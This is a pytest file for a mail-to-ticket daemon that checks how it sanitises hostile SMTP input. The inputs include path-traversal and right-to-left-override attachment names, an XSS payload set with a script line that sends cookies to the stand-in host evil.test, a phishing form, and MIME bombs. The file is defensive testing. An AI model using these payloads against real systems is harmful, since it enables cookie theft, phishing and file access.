"""Hostile content over real SMTP: attachment names, HTML and MIME bombs.

Names and HTML are stored sanitised; bombs stop at the parser's limits with a recorded `defects` event, the
ticket is still created, and the raw message is kept byte for byte in the spool.
"""

from __future__ import annotations

import base64
import os
import time
import urllib.parse
from pathlib import Path


from conftest import RunningDaemon, run_cli, send
from mailgate.message import MAX_DEPTH, MAX_FILENAME, MAX_PARTS


def filed(d: RunningDaemon, message_id: str) -> dict:
    rows = d.wait_until(lambda: d.store.query("SELECT * FROM messages WHERE message_id=?", [message_id]),
                        timeout=30, what=f"<{message_id}> filed")
    return rows[0]


def spooled_raw(d: RunningDaemon, message_id: str) -> bytes:
    return d.store.query("SELECT raw FROM spool WHERE message_id=?", [message_id])[0]["raw"]


def head(subject: str, message_id: str, ctype: str) -> bytes:
    return (f"From: Carol <customer@client.test>\r\nTo: support@example.test\r\nSubject: {subject}\r\n"
            f"Message-ID: <{message_id}>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
            f"Content-Type: {ctype}\r\n\r\n").encode()


# -- attachment names ---------------------------------------------------------------------------

NAMES = [  # (Content-Disposition parameter as sent, what must hold for the stored name)
    ('filename="../../../etc/passwd"', "passwd"),
    ('filename="..\\\\..\\\\Windows\\\\System32\\\\evil.dll"', "evil.dll"),
    ('filename="/var/lib/mailgate/mailgate.db"', "mailgate.db"),
    ("filename*=utf-8''" + urllib.parse.quote("a\x01b\x1f\r\nc\x7f.txt", safe=""), None),
    ("filename*=utf-8''" + urllib.parse.quote("invoice\u202efdp.exe", safe=""), None),
    ('filename="=?utf-8?b?' + base64.b64encode("report\u202excod.scr".encode()).decode() + '?="', None),
    ('filename="' + "A" * 500 + '.pdf"', None),
    ('filename=".."', None),
    ('filename="   ...   "', None),
    ('filename="con:stream|pipe?*<>.txt"', None),
]


def test_attachment_names_are_stored_sanitised(start_daemon) -> None:
    d = start_daemon()
    parts = b"".join(
        b"--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; " + p.encode() +
        b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(b"payload %d" % i) + b"\r\n"
        for i, (p, _) in enumerate(NAMES))
    raw = head("Attachments", "att@client.test", 'multipart/mixed; boundary="B"') + \
        b"--B\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" + parts + b"--B--\r\n"
    assert send(d.port, raw)[0] == 250
    row = filed(d, "att@client.test")
    names = [r["filename"] for r in d.store.query("SELECT filename FROM attachments WHERE message_row=? ORDER BY id", [row["id"]])]
    assert len(names) == len(NAMES), names
    for name, (_param, expected) in zip(names, NAMES):
        assert name and len(name) <= MAX_FILENAME, name
        assert "/" not in name and "\\" not in name and ".." not in name, name
        assert not any(ord(c) < 32 or 0x7f <= ord(c) <= 0x9f for c in name), repr(name)
        assert not any(c in name for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"), repr(name)
        assert not any(c in name for c in ':*?"<>|'), name
        assert not name.startswith((".", " ")), name
        if expected:
            assert name == expected, name
    assert names[6].endswith(".pdf") and names[6].startswith("AAAA")  # long names keep their extension
    assert names[4].endswith("fdp.exe") and names[4].startswith("invoice")  # the RTL override cannot disguise .exe
    assert spooled_raw(d, "att@client.test") == raw


# -- HTML ---------------------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><script>alert('head')</script><style>body{background:url(javascript:alert(1))}</style></head>
<body onload="alert('body')">
<p>Hello <b>there</b></p>
<script>document.location='https://evil.test/?c='+document.cookie</script>
<img src="x" onerror="alert('img')">
<a href="javascript:alert('link')">click</a>
<a href=" JaVaScRiPt:alert('mixed')">mixed</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>
<a href="https://example.test/ok">fine link</a>
<svg onload="alert('svg')"><circle r="1"/></svg>
<iframe src="https://evil.test/frame"></iframe>
<form action="https://evil.test/phish"><input name="password"></form>
<div style="position:fixed;top:0" onclick="steal()">overlay</div>
<object data="evil.swf"></object><embed src="evil.swf">
<meta http-equiv="refresh" content="0;url=https://evil.test/">
</body></html>"""


def test_html_bodies_are_stored_sanitised(start_daemon) -> None:
    d = start_daemon()
    raw = head("HTML", "html@client.test", 'multipart/alternative; boundary="A"') + (
        "--A\r\nContent-Type: text/plain\r\n\r\nHello there\r\n--A\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        + HOSTILE_HTML.replace("\n", "\r\n") + "\r\n--A--\r\n").encode()
    assert send(d.port, raw)[0] == 250
    stored = filed(d, "html@client.test")["html"]
    lowered = stored.lower()
    for bad in ("<script", "onerror", "onload", "onclick", "javascript:", "data:text", "<iframe", "<form", "<input",
                "<svg", "<object", "<embed", "<meta", "<style", "alert(", "document.cookie", "position:fixed"):
        assert bad not in lowered, (bad, stored)
    assert "<b>there</b>" in stored and 'href="https://example.test/ok"' in stored  # harmless markup survives
    assert spooled_raw(d, "html@client.test") == raw  # the raw message is untouched


# -- MIME bombs ---------------------------------------------------------------------------------


def many_parts(n: int) -> bytes:
    parts = b"".join(b"--P\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i for i in range(n))
    return head(f"{n} parts", "parts@client.test", 'multipart/mixed; boundary="P"') + parts + b"--P--\r\n"


def deep_nesting(n: int) -> bytes:
    body = b"".join(b"--n%d\r\nContent-Type: multipart/mixed; boundary=\"n%d\"\r\n\r\n" % (i, i + 1) for i in range(n))
    body += b"--n%d\r\nContent-Type: text/plain\r\n\r\ndeepest\r\n" % n
    body += b"".join(b"--n%d--\r\n" % i for i in reversed(range(n + 1)))
    return head(f"{n} levels", "deep@client.test", 'multipart/mixed; boundary="n0"') + body


def unknown_charset() -> bytes:
    return head("Klingon", "charset@client.test", "text/plain; charset=x-klingon-99") + "qaplá' nuq\r\n".encode("latin-1")


def damaged_long_base64_line() -> bytes:
    line = base64.b64encode(os.urandom(45_000)) + b"Q"  # one 60 kB line with a stray final character
    return head("Long line", "b64@client.test", 'multipart/mixed; boundary="L"') + (
        b"--L\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n--L\r\nContent-Type: application/octet-stream; name=x.bin\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + line + b"\r\n--L--\r\n")


BOMBS = [
    ("parts@client.test", lambda: many_parts(10_000), f"more than {MAX_PARTS} MIME parts"),
    ("deep@client.test", lambda: deep_nesting(1_000), f"MIME nesting deeper than {MAX_DEPTH} levels"),
    ("charset@client.test", unknown_charset, "unknown charset 'x-klingon-99'"),
    ("b64@client.test", damaged_long_base64_line, "base64 data is damaged"),
]


def test_mime_bombs_stop_at_limits_with_a_defect_and_keep_the_raw_message(start_daemon) -> None:
    d = start_daemon()
    raws = {}
    for message_id, build, _defect in BOMBS:
        raws[message_id] = build()
        code, text = send(d.port, raws[message_id])
        assert code == 250, (message_id, text)
    for number, (message_id, _build, defect) in enumerate(BOMBS, 1):
        row = filed(d, message_id)
        assert row["ticket_number"] is not None and row["kind"] == "customer"
        assert defect in row["defects"], (message_id, row["defects"])
        events = [e.detail for e in d.store.ticket_events(row["ticket_number"]) if e.kind == "defects"]
        assert events and defect in events[0], (message_id, events)
        assert spooled_raw(d, message_id) == raws[message_id]  # byte for byte
    assert len(d.store.tickets()) == len(BOMBS)
    assert not d.store.query("SELECT 1 FROM spool WHERE state='quarantined'")
    assert "deepest" not in filed(d, "deep@client.test")["text"]  # nothing below the depth limit was read
    assert d.store.query("SELECT count(*) AS n FROM attachments")[0]["n"] <= MAX_PARTS


def test_a_ten_megabyte_base64_line(start_daemon, tmp_path: Path) -> None:
    """SMTP refuses lines over 64 KiB outright (5xx: the sender learns at once, nothing is half-stored). An MTA pipe
    (`mailgate ingest`) has no line limit: there the message is parsed, filed and kept byte for byte."""
    d = start_daemon()
    data = base64.b64encode(os.urandom(7_500_000))  # 10 MB of base64 on ONE line
    raw = head("Huge line", "huge@client.test", 'multipart/mixed; boundary="H"') + (
        b"--H\r\nContent-Type: text/plain\r\n\r\nsee attachment\r\n--H\r\nContent-Type: application/octet-stream; name=big.bin\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + data + b"\r\n--H--\r\n")
    code, text = send(d.port, raw)
    assert code == 500 and b"Line too long" in text, (code, text)
    assert d.store.query("SELECT count(*) AS n FROM spool")[0]["n"] == 0
    d.stop()

    started = time.monotonic()
    done = run_cli("--config", str(d.config_path), "ingest", "--sender", "customer@client.test", stdin=raw)
    assert done.returncode == 0, done.stderr
    assert time.monotonic() - started < 30
    from mailgate.store import Store
    with Store(d.config.database) as store:
        row = store.query("SELECT id, ticket_number FROM messages WHERE message_id='huge@client.test'")[0]
        assert row["ticket_number"] == 1
        att = store.query("SELECT filename, size FROM attachments WHERE message_row=?", [row["id"]])
        assert att == [{"filename": "big.bin", "size": 7_500_000}]
        assert store.query("SELECT raw FROM spool")[0]["raw"] == raw


def test_message_parts_attached_by_a_customer_reach_the_agent(start_daemon, smtp_sink, tmp_path: Path) -> None:
    """Found by the fuzz test: a customer's mail carrying a message/delivery-status part (a forwarded bounce) made the
    agent notification crash (the stdlib cannot write message/* from bytes) and the mail was quarantined."""
    (tmp_path / "rules.yaml").write_text("agents:\n  alice: {addresses: [alice@staff.test]}\nrules:\n"
                                         "  - name: all to alice\n    then: {agent: alice}\n")
    d = start_daemon(relay={"host": "127.0.0.1", "port": smtp_sink.port, "tls": "none"})
    raw = head("Why did my mail bounce?", "fwd-bounce@client.test", 'multipart/mixed; boundary="F"') + (
        b"--F\r\nContent-Type: text/plain\r\n\r\nSee the report below.\r\n"
        b"--F\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.client.test\r\n\r\n"
        b"Final-Recipient: rfc822; x@y.test\r\nAction: failed\r\nStatus: 5.1.1\r\n\r\n"
        b"--F\r\nContent-Type: message/rfc822\r\n\r\nFrom: a@b.test\r\nSubject: original\r\n\r\nhello\r\n--F--\r\n")
    assert send(d.port, raw)[0] == 250
    note = smtp_sink.wait_for(1, where=lambda c: c.rcpt_to == ["alice@staff.test"])[0].message
    attached = [(p.get_content_type(), p.get_content()) for p in note.iter_attachments()]
    assert [t for t, _ in attached] == ["application/octet-stream", "application/octet-stream"]
    assert b"Final-Recipient: rfc822; x@y.test" in attached[0][1] and b"Subject: original" in attached[1][1]
    assert filed(d, "fwd-bounce@client.test")["ticket_number"] == 1
    assert not d.store.query("SELECT 1 FROM spool WHERE state='quarantined'")
